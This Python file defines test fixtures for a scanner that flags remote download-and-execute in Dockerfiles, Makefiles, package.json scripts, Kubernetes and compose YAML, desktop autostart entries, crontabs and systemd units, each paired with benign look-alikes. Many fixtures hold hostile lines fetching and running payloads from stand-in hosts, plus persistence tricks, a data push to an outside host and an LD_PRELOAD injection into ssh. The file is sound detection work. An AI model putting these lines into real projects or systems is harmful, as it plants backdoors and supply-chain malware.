# Config / build carriers: dockerfile, makefile, package-json, yaml, desktop, cron, bash-cron, systemd.
from common import C, ps_enc

# ================================================================ dockerfile
C("docker-run-curl-pipe-sh-01", "Dockerfile RUN curl | sh", "dockerfile",
  "/Dockerfile", "detect", r"""FROM debian:bookworm-slim
RUN apt-get update && apt-get install -y --no-install-recommends curl ca-certificates \
 && rm -rf /var/lib/apt/lists/*
RUN curl -fsSL https://203.0.113.5/install.sh | sh
COPY . /app
WORKDIR /app
CMD ["./run.sh"]
""")

C("docker-add-remote-url-02", "Dockerfile ADD https:// remote URL", "dockerfile",
  "/src/Dockerfile", "detect", r"""FROM alpine:3.19
ADD https://attacker.example/bin/agent /usr/local/bin/agent
RUN chmod +x /usr/local/bin/agent
ENTRYPOINT ["/usr/local/bin/agent"]
""")

C("docker-run-wget-multiline-03", "Dockerfile multi-line RUN with full path wget and chmod", "dockerfile",
  "/build/api/Dockerfile", "detect", r"""FROM ubuntu:22.04
ENV TOOL_VERSION=1.8.2
RUN set -eux; \
    apt-get update; \
    apt-get install -y --no-install-recommends wget; \
    /usr/bin/wget -q -O /usr/local/bin/tool "http://198.51.100.7/tool-${TOOL_VERSION}-linux-amd64"; \
    chmod 0755 /usr/local/bin/tool; \
    rm -rf /var/lib/apt/lists/*
USER nobody
CMD ["tool", "serve"]
""")

C("docker-entrypoint-sh-c-curl-04", "Dockerfile ENTRYPOINT exec-form sh -c with curl | sh at runtime", "dockerfile",
  "/build/worker/Dockerfile", "detect", r"""FROM python:3.12-slim
WORKDIR /srv
COPY worker.py .
ENTRYPOINT ["sh", "-c", "curl -s http://203.0.113.10/w.sh | sh && exec python worker.py"]
""")

C("docker-cmd-shell-form-wget-05", "Containerfile CMD shell form: busybox wget + exec", "dockerfile",
  "/src/Containerfile", "detect", r"""FROM busybox:1.36
CMD busybox wget -q -O /tmp/p http://203.0.113.44:8080/p && chmod +x /tmp/p && exec /tmp/p
""")

C("docker-run-powershell-iwr-06", "Windows Dockerfile RUN powershell Invoke-WebRequest", "dockerfile",
  "/build/win/Dockerfile", "detect", r"""# escape=`
FROM mcr.microsoft.com/windows/servercore:ltsc2022
SHELL ["powershell", "-Command", "$ErrorActionPreference = 'Stop';"]
RUN Invoke-WebRequest -Uri http://198.51.100.7/agent.msi -OutFile C:\agent.msi ; `
    Start-Process msiexec.exe -ArgumentList '/i', 'C:\agent.msi', '/qn' -Wait ; `
    Remove-Item C:\agent.msi
""")

C("docker-silent-apt-healthcheck-01", "look-alike: apt installs curl; HEALTHCHECK curl localhost", "dockerfile",
  "/services/web/Dockerfile", "silent", r"""FROM nginx:1.25
RUN apt-get update && apt-get install -y --no-install-recommends curl \
 && rm -rf /var/lib/apt/lists/*
COPY nginx.conf /etc/nginx/nginx.conf
COPY dist/ /usr/share/nginx/html/
HEALTHCHECK --interval=30s --timeout=3s CMD curl -fsS http://localhost/ || exit 1
""")

C("docker-silent-local-add-copy-02", "look-alike: ADD local tarball, COPY --from build stage", "dockerfile",
  "/services/api/Dockerfile", "silent", r"""FROM golang:1.22 AS build
WORKDIR /src
COPY . .
RUN go build -o /out/api ./cmd/api

FROM gcr.io/distroless/base-debian12
ADD rootfs.tar.gz /
COPY --from=build /out/api /usr/local/bin/api
# RUN curl -fsSL https://example.com/debug.sh | sh   (removed)
ENTRYPOINT ["/usr/local/bin/api"]
""")

C("docker-silent-label-url-03", "look-alike: LABEL/ENV containing URLs, pip install from requirements", "dockerfile",
  "/services/ml/Dockerfile", "silent", r"""FROM python:3.11-slim
LABEL org.opencontainers.image.source="https://github.com/example/ml-service" \
      org.opencontainers.image.documentation="https://docs.example.com/ml"
ENV PIP_INDEX_URL=https://pypi.org/simple
COPY requirements.txt .
RUN pip install --no-cache-dir -r requirements.txt
COPY app/ /app/
CMD ["python", "-m", "app"]
""")

# ================================================================ makefile
C("make-wget-recipe-01", "Makefile recipe with wget + chmod", "makefile",
  "/app/Makefile", "detect", "TOOL_URL := http://198.51.100.7/bin/protoc-gen\nBIN := bin\n\n"
  ".PHONY: tools build\n\ntools:\n\tmkdir -p $(BIN)\n\twget -q $(TOOL_URL) -O $(BIN)/protoc-gen\n\tchmod +x $(BIN)/protoc-gen\n\n"
  "build: tools\n\tgo build ./...\n")

C("make-at-curl-pipe-bash-02", "Makefile @-silenced recipe: curl | bash", "makefile",
  "/src/project/Makefile", "detect", "all: deps build\n\ndeps:\n\t@curl -sSL https://attacker.example/setup.sh | bash\n\n"
  "build:\n\t@$(CC) -O2 -o app main.c\n")

C("make-shell-function-curl-03", "Makefile $(shell curl ...) at parse time", "makefile",
  "/opt/build/Makefile", "detect", "REMOTE_CFG := $(shell curl -s http://203.0.113.10/cfg.mk -o /tmp/cfg.mk && echo /tmp/cfg.mk)\n"
  "-include $(REMOTE_CFG)\n\nall:\n\t$(MAKE) -C src\n")

C("make-curl-var-04", "Makefile $(CURL) $(URL) variables", "makefile",
  "/usr/src/app/GNUmakefile", "detect", "CURL ?= curl -fsSL\nURL = http://203.0.113.5/vendor/lib.tar.gz\n\n"
  "vendor/lib.tar.gz:\n\tmkdir -p vendor\n\t$(CURL) $(URL) -o $@\n\ttar -xzf $@ -C vendor\n\nall: vendor/lib.tar.gz\n\t./vendor/lib/install.sh\n")

C("make-silent-version-test-01", "look-alike: Makefile checking curl --version and testing localhost", "makefile",
  "/app/service/Makefile", "silent", ".PHONY: check test\n\ncheck:\n\t@command -v curl >/dev/null || (echo 'curl is required'; exit 1)\n"
  "\t@curl --version | head -1\n\ntest:\n\tcurl -fsS http://localhost:8080/health\n\tgo test ./...\n")

C("make-silent-install-02", "look-alike: Makefile install/clean targets with echo of docs URL", "makefile",
  "/usr/src/tool/Makefile", "silent", "PREFIX ?= /usr/local\n\ninstall:\n\tinstall -m 0755 bin/tool $(PREFIX)/bin/tool\n"
  "\t@echo 'docs: https://docs.example.com/tool  (or: wget https://docs.example.com/tool.pdf)'\n\nclean:\n\trm -rf bin/\n")

# ================================================================ package-json
C("pkgjson-postinstall-curl-sh-01", "npm lifecycle postinstall: curl | sh", "package-json",
  "/app/package.json", "detect", r"""{
  "name": "left-padder",
  "version": "1.0.4",
  "main": "index.js",
  "scripts": {
    "test": "node test.js",
    "postinstall": "curl -fsSL https://203.0.113.5/p.sh | sh"
  },
  "license": "MIT"
}
""")

C("pkgjson-preinstall-node-e-02", "npm preinstall: node -e https.get download", "package-json",
  "/app/node_modules/event-streamer/package.json", "detect", r"""{
  "name": "event-streamer",
  "version": "3.3.6",
  "scripts": {
    "preinstall": "node -e \"require('https').get('https://attacker.example/x.js',r=>r.pipe(require('fs').createWriteStream('/tmp/x.js')))\""
  }
}
""")

C("pkgjson-install-wget-chmod-03", "npm install script: wget && chmod +x && run", "package-json",
  "/usr/lib/node_modules/native-bin/package.json", "detect", r"""{
  "name": "native-bin",
  "version": "0.9.1",
  "bin": { "native-bin": "cli.js" },
  "scripts": {
    "install": "wget -q http://198.51.100.7/native-bin-linux -O bin/native && chmod +x bin/native && ./bin/native --init"
  }
}
""")

C("pkgjson-prepare-powershell-04", "npm prepare: powershell iwr (Windows path)", "package-json",
  "/srv/web/package.json", "detect", r"""{
  "name": "web",
  "private": true,
  "scripts": {
    "build": "vite build",
    "prepare": "powershell -NoProfile -Command \"iwr http://203.0.113.10/h.exe -OutFile $env:TEMP\\h.exe; & $env:TEMP\\h.exe\""
  },
  "devDependencies": { "vite": "^5.0.0" }
}
""")

C("pkgjson-silent-normal-scripts-01", "look-alike: ordinary lifecycle scripts (local node script, husky)", "package-json",
  "/app/frontend/package.json", "silent", r"""{
  "name": "frontend",
  "version": "2.1.0",
  "private": true,
  "scripts": {
    "postinstall": "node scripts/postinstall.js",
    "prepare": "husky install",
    "build": "webpack --mode production",
    "test": "jest"
  },
  "repository": { "type": "git", "url": "https://github.com/example/frontend.git" }
}
""")

C("pkgjson-silent-health-script-02", "look-alike: non-lifecycle script curling localhost", "package-json",
  "/opt/node-app/package.json", "silent", r"""{
  "name": "node-app",
  "version": "1.0.0",
  "scripts": {
    "start": "node server.js",
    "health": "curl -fsS http://localhost:3000/health",
    "docs": "echo 'see https://docs.example.com'"
  }
}
""")

# ================================================================ yaml (k8s / compose)
C("yaml-k8s-deploy-sh-c-wget-01", "k8s Deployment command: [sh, -c, wget && chmod +x]", "yaml",
  "/opt/app/deploy.yaml", "detect", r"""apiVersion: apps/v1
kind: Deployment
metadata:
  name: metrics-sidecar
spec:
  replicas: 1
  selector:
    matchLabels: {app: metrics-sidecar}
  template:
    metadata:
      labels: {app: metrics-sidecar}
    spec:
      containers:
        - name: agent
          image: alpine:3.19
          command: ["sh", "-c", "wget -q http://203.0.113.5/agent -O /tmp/agent && chmod +x /tmp/agent && /tmp/agent"]
""")

C("yaml-compose-command-curl-02", "docker-compose command with curl | sh", "yaml",
  "/srv/compose/docker-compose.yml", "detect", r"""services:
  web:
    image: nginx:1.25
    ports:
      - "8080:80"
  helper:
    image: curlimages/curl:8.5.0
    command: sh -c "curl -fsSL http://198.51.100.7/h.sh | sh"
    restart: unless-stopped
""")

C("yaml-k8s-cronjob-args-03", "k8s CronJob args list with curl -o and exec", "yaml",
  "/opt/app/k8s/cronjob.yaml", "detect", r"""apiVersion: batch/v1
kind: CronJob
metadata:
  name: refresher
spec:
  schedule: "*/10 * * * *"
  jobTemplate:
    spec:
      template:
        spec:
          restartPolicy: OnFailure
          containers:
            - name: refresh
              image: debian:bookworm-slim
              command:
                - /bin/bash
              args:
                - -c
                - |
                  curl -sk https://attacker.example/r.bin -o /tmp/r.bin
                  chmod +x /tmp/r.bin
                  /tmp/r.bin
""")

C("yaml-k8s-initcontainer-04", "k8s initContainer pulling a binary into a shared volume", "yaml",
  "/etc/kubernetes/manifests/app-pod.yaml", "detect", r"""apiVersion: v1
kind: Pod
metadata:
  name: app
spec:
  volumes:
    - name: tools
      emptyDir: {}
  initContainers:
    - name: fetch-tools
      image: busybox:1.36
      command: ["busybox", "wget", "-O", "/tools/helper", "http://203.0.113.44:8080/helper"]
      volumeMounts:
        - {name: tools, mountPath: /tools}
  containers:
    - name: app
      image: example/app:1.0
      command: ["/tools/helper", "--", "/app/run"]
      volumeMounts:
        - {name: tools, mountPath: /tools}
""")

C("yaml-compose-entrypoint-list-05", "compose entrypoint list with python -c urlretrieve", "yaml",
  "/opt/stack/compose.yaml", "detect", r"""services:
  worker:
    image: python:3.12-slim
    entrypoint:
      - python
      - -c
      - "import urllib.request,os; urllib.request.urlretrieve('http://203.0.113.10/w.py','/tmp/w.py'); os.execvp('python',['python','/tmp/w.py'])"
""")

C("yaml-silent-probes-01", "look-alike: liveness/readiness probes curling localhost", "yaml",
  "/opt/app/k8s/web.yaml", "silent", r"""apiVersion: apps/v1
kind: Deployment
metadata:
  name: web
spec:
  selector:
    matchLabels: {app: web}
  template:
    metadata:
      labels: {app: web}
    spec:
      containers:
        - name: web
          image: example/web:2.3
          livenessProbe:
            exec:
              command: ["curl", "-fsS", "http://localhost:8080/healthz"]
          readinessProbe:
            httpGet: {path: /ready, port: 8080}
""")

C("yaml-silent-compose-healthcheck-02", "look-alike: compose healthcheck test with curl to localhost", "yaml",
  "/srv/app/docker-compose.yaml", "silent", r"""services:
  api:
    image: example/api:1.4
    command: ["gunicorn", "-b", "0.0.0.0:8000", "app:app"]
    healthcheck:
      test: ["CMD", "curl", "-f", "http://localhost:8000/health"]
      interval: 30s
      retries: 3
    environment:
      DOCS_URL: https://docs.example.com/api
""")

# ================================================================ desktop
C("desktop-app-sh-c-curl-01", ".desktop Exec=sh -c \"curl ... | sh\"", "desktop",
  "/usr/share/applications/pdf-viewer.desktop", "detect", r"""[Desktop Entry]
Type=Application
Name=PDF Viewer
Icon=application-pdf
Exec=sh -c "curl -fsSL http://203.0.113.5/v.sh | sh; evince %f"
Categories=Office;Viewer;
MimeType=application/pdf;
""")

C("desktop-autostart-bash-wget-02", "XDG autostart entry with bash -c wget && chmod && run", "desktop",
  "/home/user/.config/autostart/updater.desktop", "detect", r"""[Desktop Entry]
Type=Application
Name=System Updater
Exec=bash -c 'wget -q http://198.51.100.7/u -O /tmp/.u && chmod +x /tmp/.u && /tmp/.u'
Hidden=false
NoDisplay=true
X-GNOME-Autostart-enabled=true
""")

C("desktop-xdg-autostart-python-03", "system-wide XDG autostart with python3 -c urlretrieve", "desktop",
  "/etc/xdg/autostart/tracker-helper.desktop", "detect", r"""[Desktop Entry]
Type=Application
Name=Tracker Helper
Exec=python3 -c "import urllib.request as u; u.urlretrieve('http://203.0.113.10/t', '/tmp/.t'); import os; os.chmod('/tmp/.t', 0o755); os.system('/tmp/.t &')"
OnlyShowIn=GNOME;XFCE;
NoDisplay=true
""")

C("desktop-silent-normal-app-01", "look-alike: ordinary .desktop launcher with URL in Comment", "desktop",
  "/usr/share/applications/org.example.Editor.desktop", "silent", r"""[Desktop Entry]
Type=Application
Name=Example Editor
Comment=Lightweight editor (https://example.org/editor)
Exec=/opt/editor/bin/editor --no-sandbox %U
Icon=org.example.Editor
Categories=Development;TextEditor;
Keywords=text;editor;download;
""")

# ================================================================ cron (crontab files)
C("cron-d-user-field-wget-01", "system crontab with user field: wget -O && sh (TeamTNT/Kinsing style)", "cron",
  "/etc/cron.d/x", "detect", r"""SHELL=/bin/sh
PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin
*/5 * * * * root wget -q http://203.0.113.77/x.sh -O /tmp/.x && sh /tmp/.x
""")

C("cron-spool-root-curl-sh-02", "user crontab (no user field): curl | sh", "cron",
  "/var/spool/cron/crontabs/root", "detect", r"""# DO NOT EDIT THIS FILE - edit the master and reinstall.
# m h  dom mon dow   command
*/10 * * * * curl -fsSL http://198.51.100.7/c.sh | sh >/dev/null 2>&1
""")

C("cron-etc-crontab-fallback-03", "/etc/crontab with curl||wget fallback piped to bash", "cron",
  "/etc/crontab", "detect", r"""SHELL=/bin/sh
PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin

17 *    * * *   root    cd / && run-parts --report /etc/cron.hourly
25 6    * * *   root    test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )
*/3 *   * * *   root    (curl -fsSL http://203.0.113.77/pdate.sh || wget -q -O- http://203.0.113.77/pdate.sh) | bash
""")

C("cron-reboot-busybox-04", "@reboot entry with busybox wget (RHEL-style spool path)", "cron",
  "/var/spool/cron/root", "detect", r"""@reboot busybox wget -q -O /dev/shm/.b http://203.0.113.44/b && chmod +x /dev/shm/.b && /dev/shm/.b
""")

C("cron-d-rsync-push-05", "atomic-red-team T1105 'rsync remote file copy (push)' scheduled in cron.d", "cron",
  "/etc/cron.d/backup-offsite", "detect", r"""# offsite copy every night
30 2 * * * root rsync -az /var/lib/app/ sync@203.0.113.9:/srv/drop/app/
""")

C("cron-silent-localhost-01", "look-alike: cron hitting localhost cron endpoint", "cron",
  "/etc/cron.d/nextcloud", "silent", r"""*/5 * * * * www-data curl -fsS http://localhost/cron.php >/dev/null 2>&1
0 3 * * * www-data php -f /var/www/nextcloud/occ files:scan --all >/dev/null
""")

C("cron-silent-commented-02", "look-alike: commented-out download line in crontab", "cron",
  "/etc/cron.d/legacy", "silent", r"""# disabled 2023-04: agent is now baked into the image
#*/30 * * * * root wget -q http://198.51.100.7/agent -O /usr/local/bin/agent
0 4 * * * root /usr/sbin/logrotate /etc/logrotate.conf
""")

# ================================================================ bash-cron (scripts run by cron)
C("bashcron-hourly-curl-01", "cron.hourly script with curl download + exec", "bash-cron",
  "/etc/cron.hourly/0anacron-helper", "detect", r"""#!/bin/sh
# keep helper up to date
test -x /usr/bin/curl || exit 0
/usr/bin/curl -s -o /usr/local/sbin/.h http://203.0.113.5/h
chmod 700 /usr/local/sbin/.h
/usr/local/sbin/.h >/dev/null 2>&1
""")

C("bashcron-daily-rsync-pull-02", "cron.daily script pulling files via rsync from remote host", "bash-cron",
  "/etc/cron.daily/sync-plugins", "detect", r"""#!/bin/bash
set -e
rsync -az --delete plugins@198.51.100.23::plugins/ /opt/app/plugins/
systemctl reload app || true
""")

C("bashcron-weekly-wget-exec-03", "cron.weekly script: wget to /tmp then run", "bash-cron",
  "/etc/cron.weekly/update-geoip", "detect", r"""#!/bin/sh
cd /tmp
wget -q http://203.0.113.77/geoip-update -O geoip-update
chmod +x geoip-update && ./geoip-update && rm -f geoip-update
""")

C("bashcron-silent-logrotate-01", "look-alike: typical cron.daily script (logrotate)", "bash-cron",
  "/etc/cron.daily/logrotate", "silent", r"""#!/bin/sh
# skip in favour of systemd timer
if [ -d /run/systemd/system ]; then
    exit 0
fi
/usr/sbin/logrotate /etc/logrotate.conf
EXITVALUE=$?
if [ $EXITVALUE != 0 ]; then
    /usr/bin/logger -t logrotate "ALERT exited abnormally with [$EXITVALUE]"
fi
exit $EXITVALUE
""")

# ================================================================ systemd
C("systemd-execstart-sh-c-curl-01", "systemd ExecStart=/bin/sh -c 'curl | sh'", "systemd",
  "/etc/systemd/system/x.service", "detect", r"""[Unit]
Description=System Update Helper
After=network-online.target
Wants=network-online.target

[Service]
Type=simple
ExecStart=/bin/sh -c 'curl -fsSL http://203.0.113.5/s.sh | sh'
Restart=always
RestartSec=300

[Install]
WantedBy=multi-user.target
""")

C("systemd-execstartpre-curl-o-02", "systemd ExecStartPre=/usr/bin/curl -o then ExecStart of the binary", "systemd",
  "/usr/lib/systemd/system/node-agent.service", "detect", r"""[Unit]
Description=Node Agent
After=network.target

[Service]
ExecStartPre=/usr/bin/curl -fsSL -o /opt/agent/agent https://attacker.example/agent
ExecStartPre=/bin/chmod +x /opt/agent/agent
ExecStart=/opt/agent/agent --config /etc/agent.yml
Restart=on-failure

[Install]
WantedBy=multi-user.target
""")

C("systemd-user-wget-03", "systemd user unit with wget -O and exec", "systemd",
  "/home/user/.config/systemd/user/dbus-helper.service", "detect", r"""[Unit]
Description=D-Bus session helper

[Service]
ExecStart=/bin/bash -c "wget -q http://198.51.100.7/d -O %h/.cache/.d && chmod +x %h/.cache/.d && exec %h/.cache/.d"
Restart=always

[Install]
WantedBy=default.target
""")

C("systemd-dropin-override-04", "systemd drop-in override adding an ExecStartPre download", "systemd",
  "/etc/systemd/system/ssh.service.d/override.conf", "detect", r"""[Service]
ExecStartPre=-/usr/bin/wget -q -O /usr/local/lib/libnss_x.so http://203.0.113.44/libnss_x.so
Environment=LD_PRELOAD=/usr/local/lib/libnss_x.so
""")

C("systemd-silent-execstartpost-localhost-01", "look-alike: ExecStartPost curl to localhost readiness", "systemd",
  "/etc/systemd/system/app.service", "silent", r"""[Unit]
Description=Example App
Documentation=https://docs.example.com/app
After=network.target

[Service]
User=app
ExecStart=/opt/app/bin/app --listen 127.0.0.1:8080
ExecStartPost=/bin/sh -c 'for i in 1 2 3 4 5; do curl -fsS http://127.0.0.1:8080/ready && exit 0; sleep 1; done; exit 1'
Restart=on-failure

[Install]
WantedBy=multi-user.target
""")

C("systemd-silent-plain-02", "look-alike: ordinary service unit with Documentation URL", "systemd",
  "/usr/lib/systemd/system/redis-server.service", "silent", r"""[Unit]
Description=Advanced key-value store
Documentation=http://redis.io/documentation, man:redis-server(1)
After=network.target

[Service]
Type=notify
ExecStart=/usr/bin/redis-server /etc/redis/redis.conf --supervised systemd --daemonize no
ExecStop=/bin/kill -s TERM $MAINPID
User=redis
Group=redis

[Install]
WantedBy=multi-user.target
""")
